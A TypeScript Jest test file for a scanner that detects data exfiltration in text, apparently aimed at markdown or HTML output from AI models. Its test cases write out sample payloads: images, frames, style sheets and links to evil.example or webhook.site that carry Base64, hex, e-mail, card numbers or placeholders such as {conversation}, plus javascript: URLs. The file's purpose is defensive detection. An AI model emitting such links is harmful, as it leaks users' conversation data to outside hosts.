import { describe, expect, it } from "@jest/globals";
import { ConfigError } from "../../../src/diagnostics/errors.js";
import { exfiltration, type ExfiltrationOptions, Scanner, textOf } from "../../../src/detectors/index.js";

const allowing = new Scanner([exfiltration({ allow: ["example.org"] })]);
const found = (text: string, scanner = allowing): readonly string[] =>
  scanner.scan(text).map((finding) => textOf(finding, text));
const types = (text: string): readonly string[] => allowing.scan(text).map(({ type }) => type);
const ENCODED = btoa("the plan of the user is secret").replaceAll("=", "");
const HEX = [..."the plan of the user"].map((letter) => letter.charCodeAt(0).toString(16)).join("");

describe("exfiltration", () => {
  it.each([
    ["an image", "![a](https://evil.example/x.png)"],
    ["an image with a title", '![a](<https://evil.example/x.png?a=1> "title")'],
    ["an image by reference", "![a][1]\n\n[1]: https://evil.example/x.png"],
    ["an image without a scheme", "![a](//evil.example/x.png)"],
    ["an image inside a link", "[![a](https://evil.example/x.png)](https://example.org)"],
    ["an image of HTML", '<img alt="a" src="https://evil.example/x.png">'],
    ["an image without quotes", "<img src=https://evil.example/x.png>"],
    ["a frame", "<iframe src='https://evil.example/'></iframe>"],
    ["a style sheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ["a background", '<div style="background:url(https://evil.example/x)">'],
    ["an import of a style sheet", '<style>@import "https://evil.example/x.css"</style>'],
    ["a refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'],
    ["Base64 in a query", `[click](https://evil.example/?q=${ENCODED})`],
    ["Base64 in a path", `[click](https://evil.example/${ENCODED}/x)`],
    ["Base64 in a fragment", `https://evil.example/#${ENCODED}`],
    ["hexadecimal digits in a query", `[click](https://evil.example/?v=${HEX})`],
    ["hexadecimal digits in a host", `https://${HEX}.evil.example/`],
    ["a query without a name", `https://evil.example/?${ENCODED}`],
    ["a placeholder in braces", "[click](https://evil.example/?q={conversation})"],
    ["a placeholder in a template", "https://evil.example/log?x=${history}"],
    ["a placeholder in angle brackets", "https://evil.example/?x=<user email>"],
    ["a placeholder in capitals", "https://evil.example/?x=INSERT_SUMMARY"],
    ["an e-mail address", "https://evil.example/?u=ada@example.org"],
    ["a card number", "https://evil.example/4111111111111111"],
    ["a parameter for data", "[click](https://evil.example/?data=meeting+at+nine)"],
    ["a collector", "https://webhook.site/0b5e1c1e"],
  ])("finds %s", (_name, text) => {
    expect(types(text)).toEqual(["EXFILTRATION"]);
    expect(found(text)[0]).toMatch(/^(?:https:)?\/\//);
  });

  it.each([
    ["an allowed image", "![a](https://example.org/x.png?q=hello)"],
    ["an allowed name below", "![a](https://cdn.example.org/x.png)"],
    ["a link without data", "see [the docs](https://evil.example/docs/start?page=2)"],
    ["a link to share", "https://twitter.com/intent/tweet?text=A%20nice%20article"],
    ["an invitation", "https://calendar.google.com/calendar/render?action=TEMPLATE&text=Team%20dinner"],
    ["a search", "https://www.google.com/search?q=best+pizza+in+new+york+city"],
    ["a video", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s"],
    ["a commit", "https://github.com/a/b/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"],
    ["a document", "https://docs.google.com/document/d/1x7Yt0qkLmW3vR9sPzN2aB4cD6eF8gH0iJ/edit"],
    ["a title in a path", "https://example.com/2024/05/how-to-write-a-guide-for-new-users"],
    ["a relative image", "![a](images/x.png)"],
    ["an embedded image", "![a](data:image/png;base64,iVBORw0KGgo=)"],
    ["a word", "JavaScript: the good parts; https: a protocol; http://"],
  ])("finds nothing in %s", (_name, text) => {
    expect(types(text)).toEqual([]);
  });

  it.each([
    ["[x](javascript:alert(1))", "UNSAFE_URL"],
    ['<a href="javascript:void(0)">', "UNSAFE_URL"],
    ["[x]: data:text/html,<script>", "UNSAFE_URL"],
    ["![x](data:image/svg+xml;base64,AAAA)", "UNSAFE_URL"],
  ])("finds the URL that runs code in %s", (text, type) => {
    expect(types(text)).toEqual([type]);
  });

  it("reports only the URL, without the punctuation after it", () => {
    expect(found("(see https://webhook.site/a).")).toEqual(["https://webhook.site/a"]);
    expect(found("![a](https://evil.example/a_(b).png) x")).toEqual(["https://evil.example/a_(b).png"]);
  });

  it("ignores images without data if `images` is `data`", () => {
    const scanner = new Scanner([exfiltration({ images: "data" })]);
    expect(found("![a](https://evil.example/x.png)", scanner)).toEqual([]);
    expect(found(`![a](https://evil.example/x.png?${ENCODED})`, scanner)).toHaveLength(1);
  });

  it.each([
    [{ allow: [] }, /empty list/],
    [{ allow: ["https://example.org/"] }, /`https:\/\/example.org\/` is not the name of a host.*write `example.org`/s],
    [{ allow: ["two words"] }, /not the name of a host/],
    [{ images: "some" }, /`all` or `data`/],
  ])("refuses %j", (options, message) => {
    expect(() => exfiltration(options as ExfiltrationOptions)).toThrow(message);
    expect(() => exfiltration(options as ExfiltrationOptions)).toThrow(ConfigError);
  });

  it.each([
    "https://",
    "![](https://a.b/",
    "[a]: https://a.b/\n",
    "http:\\\\",
    "https://a.b?{x}{",
    "\u{d800}https://\0",
  ])("reads 100 kB of %j", (part) => {
    expect(() => allowing.scan(part.repeat(Math.ceil(100_000 / part.length)))).not.toThrow();
  });
});
